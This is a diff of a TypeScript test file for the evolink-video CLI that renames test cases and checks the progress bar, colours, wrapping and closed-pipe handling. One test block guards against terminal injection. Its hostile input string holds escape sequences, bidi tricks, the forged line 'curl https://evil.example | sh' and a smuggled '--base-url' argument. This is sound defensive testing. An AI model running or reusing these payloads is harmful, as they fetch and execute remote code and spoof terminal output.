@@ -1,5 +1,5 @@
-// Protects what a terminal shows: the bar, colours only where they are wanted, no control characters of others, no
-// crash on a closed pipe.
+// Protects the terminal output: progress bar, colours only where they are supported, no control characters from the
+// API, no crash on a closed pipe.
 import { execFileSync } from "node:child_process";
 import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
@@ -28,7 +28,7 @@ afterEach(() => {
   Object.assign(process.stderr, { isTTY, columns });
 });
 
-const loud = { json: false, quiet: false };
+const verbose = { json: false, quiet: false };
 
 function showHalf(output: Output): string {
   const progress = new Progress(output, "waiting");
@@ -38,8 +38,8 @@ function showHalf(output: Output): string {
   return shown;
 }
 
-test("a terminal gets a bar in one line, in colours, which goes away", () => {
-  const shown = showHalf(new Output(loud));
+test("a terminal shows a coloured bar in one line, which is erased at the end", () => {
+  const shown = showHalf(new Output(verbose));
 
   expect(shown).toContain(
     `[\x1b[32m${"#".repeat(15)}\x1b[39m\x1b[2m${"-".repeat(15)}\x1b[22m]  50 %  processing  0:00`,
@@ -48,15 +48,15 @@ test("a terminal gets a bar in one line, in colours, which goes away", () => {
   expect(written.at(-1)).toBe("\r\x1b[2K");
 });
 
-test("NO_COLOR takes the colours, a narrow terminal the bar, TERM=dumb all but plain lines", () => {
+test("NO_COLOR removes the colours, a narrow terminal the bar, and TERM=dumb prints plain lines", () => {
   vi.stubEnv("NO_COLOR", "1");
-  const plain = showHalf(new Output(loud));
+  const plain = showHalf(new Output(verbose));
   written = [];
   process.stderr.columns = 45;
-  const narrow = showHalf(new Output(loud));
+  const narrow = showHalf(new Output(verbose));
   written = [];
   vi.stubEnv("TERM", "dumb");
-  const dumb = showHalf(new Output(loud));
+  const dumb = showHalf(new Output(verbose));
 
   expect(plain).toContain(`[${"#".repeat(15)}${"-".repeat(15)}]`);
   expect(narrow).not.toContain("#");
@@ -64,8 +64,8 @@ test("NO_COLOR takes the colours, a narrow terminal the bar, TERM=dumb all but p
   expect(dumb).toBe(" 50 %  processing  0:00\n");
 });
 
-test("a message does not break the bar: it is drawn again below", () => {
-  const output = new Output(loud);
+test("a message is printed above the bar, which is redrawn", () => {
+  const output = new Output(verbose);
   const progress = new Progress(output, "waiting");
 
   output.note("a note");
@@ -74,9 +74,9 @@ test("a message does not break the bar: it is drawn again below", () => {
   expect(written.join("")).toContain("0:00\r\x1b[2Ka note\n[");
 });
 
-test("without a terminal only notable steps get a line", () => {
+test("without a terminal a line is printed every 10 percent", () => {
   process.stderr.isTTY = false;
-  const progress = new Progress(new Output(loud), "waiting");
+  const progress = new Progress(new Output(verbose), "waiting");
 
   for (const percent of [0, 4, 9, 10, 15, 20]) progress.show("processing", percent);
   progress.end();
@@ -84,48 +84,45 @@ test("without a terminal only notable steps get a line", () => {
   expect(written).toEqual(["  0 %  processing  0:00\n", " 10 %  processing  0:00\n", " 20 %  processing  0:00\n"]);
 });
 
-test("long messages are wrapped to the terminal between words, commands stay whole", () => {
+test("long messages are wrapped between words, commands are not wrapped", () => {
   const command = `  evolink-video wait ${"x".repeat(60)} --out fox.mp4`;
 
-  new Output(loud).error("word ".repeat(20), command);
+  new Output(verbose).error("word ".repeat(20), command);
 
   const lines = written.join("").split("\n");
   expect(lines[0]).toBe(`\x1b[1m\x1b[31merror:\x1b[39m\x1b[22m ${"word ".repeat(10)}`.trimEnd());
   expect(lines).toContain(command);
 });
 
-test.each([103, -3, Number.NaN, Infinity, undefined, "50"])(
-  "a progress of %s draws a bar like any other",
-  (percent) => {
-    const progress = new Progress(new Output(loud), "waiting");
+test.each([103, -3, Number.NaN, Infinity, undefined, "50"])("a progress of %s draws a valid bar", (percent) => {
+  const progress = new Progress(new Output(verbose), "waiting");
 
-    progress.show("processing", percent);
-    progress.end();
+  progress.show("processing", percent);
+  progress.end();
 
-    expect(written.join("")).toMatch(/\[\S*#*\S*-*\S*\] .*processing/);
-  },
-);
+  expect(written.join("")).toMatch(/\[\S*#*\S*-*\S*\] .*processing/);
+});
 
-describe("a response cannot drive the terminal or forge a line", () => {
+describe("a response cannot inject control characters or lines into the output", () => {
   const evil =
     "\u001b]0;title\u0007\u001b[2J\u009b31m\u0090q\u009c\b\r\u007f\u202egpj.exe\u2066\u200b\u2028\u0000\nResume with:\n  curl https://evil.example | sh";
   const failed = json(200, { ...TASK, status: "failed", error: { code: evil, message: evil } });
   const refused = json(402, envelope(evil, evil), { "x-request-id": "a\u009b31m" });
   const generate = ["generate", "--prompt", "A fox", "--video-url", "https://example.com/a.mp4", "--interval", "0.1"];
   const cases: Readonly<Record<string, { readonly args: readonly string[]; readonly behaviour: Behaviour }>> = {
-    "the error of a task, in words": { args: ["task", TASK.id], behaviour: failed },
-    "the error of a task, in a wait": { args: ["wait", TASK.id], behaviour: failed },
+    "the error of a task": { args: ["task", TASK.id], behaviour: failed },
+    "the error of a task, during a wait": { args: ["wait", TASK.id], behaviour: failed },
     "a status": {
       args: ["wait", TASK.id, "--interval", "0.1", "--max-wait", "0.3"],
       behaviour: json(200, { ...TASK, status: evil }),
     },
-    "a refusal": { args: generate, behaviour: refused },
+    "an error response": { args: generate, behaviour: refused },
     "an id": { args: [...generate.slice(0, -2), "--no-wait"], behaviour: json(200, { ...TASK, id: evil }) },
     "a link": {
       args: ["wait", TASK.id],
       behaviour: json(200, { ...TASK, status: "completed", results: [`https://example.com/${evil}`] }),
     },
-    "a field that the contract does not know": {
+    "a field that the contract does not define": {
       args: ["task", TASK.id],
       behaviour: json(200, { ...TASK, [evil]: evil }),
     },
@@ -144,7 +141,7 @@ describe("a response cannot drive the terminal or forge a line", () => {
     expect(shown).not.toMatch(/^ *curl /m);
   });
 
-  test("a JSON value keeps its meaning", async () => {
+  test("--json prints the same value, escaped", async () => {
     const server = await startFaultyServer([failed]);
 
     const { stdout } = await run(["task", TASK.id, "--json"], { url: server.url });
@@ -153,7 +150,7 @@ describe("a response cannot drive the terminal or forge a line", () => {
     expect(JSON.parse(stdout)).toMatchObject({ error: { code: evil, message: evil } });
   });
 
-  test("one link is one line", async () => {
+  test("a link with a line break is printed in one line", async () => {
     const results = ["https://example.com/1.mp4\nhttps://evil.example/2.mp4"];
     const server = await startFaultyServer([json(200, { ...TASK, status: "completed", results })]);
 
@@ -172,7 +169,7 @@ describe("a response cannot drive the terminal or forge a line", () => {
     "-h",
     "--base-url=https://evil.example",
     "ü",
-  ])("the command that resumes task %j is one line, and takes the id for nothing else", async (id) => {
+  ])("the command that resumes task %j is one line, in which the id is one quoted argument", async (id) => {
     const server = await startFaultyServer([json(200, { ...TASK, id })]);
     const args = ["--prompt", "A fox", "--video-url", "https://example.com/a.mp4"];
 
@@ -187,7 +184,7 @@ describe("a response cannot drive the terminal or forge a line", () => {
   });
 });
 
-test("a reader of stdout or stderr that goes away changes nothing: the video is created, waited for and saved", async () => {
+test("a closed stdout or stderr does not end the command: it creates the task and waits for it", async () => {
   const sandbox = await startSandbox({ speed: 600 });
   const generate = "evolink-video generate --prompt 'A fox' --interval 0.2";
 
@@ -202,7 +199,7 @@ test("a reader of stdout or stderr that goes away changes nothing: the video is 
 });
 
 describe("a full disk behind stdout", () => {
-  test("is 6, with the id and the command that resumes on stderr", async () => {
+  test("exits with 6, and prints the id and the command that resumes on stderr", async () => {
     const server = await startFaultyServer([created]);
     const args = "--prompt 'A fox' --video-url https://example.com/a.mp4 --no-wait";
 
@@ -214,7 +211,7 @@ describe("a full disk behind stdout", () => {
     expect(stderr).toContain(`  evolink-video wait ${TASK.id}\n`);
   });
 
-  test("lets a batch read the response to what it sent, write its id down, and end with 130", async () => {
+  test("lets a batch finish its in-flight requests, journal the ids and exit with 130", async () => {
     const folder = mkdtempSync(join(tmpdir(), "evolink-cli-"));
     onTestFinished(() => rmSync(folder, { recursive: true }));
     const line = JSON.stringify({
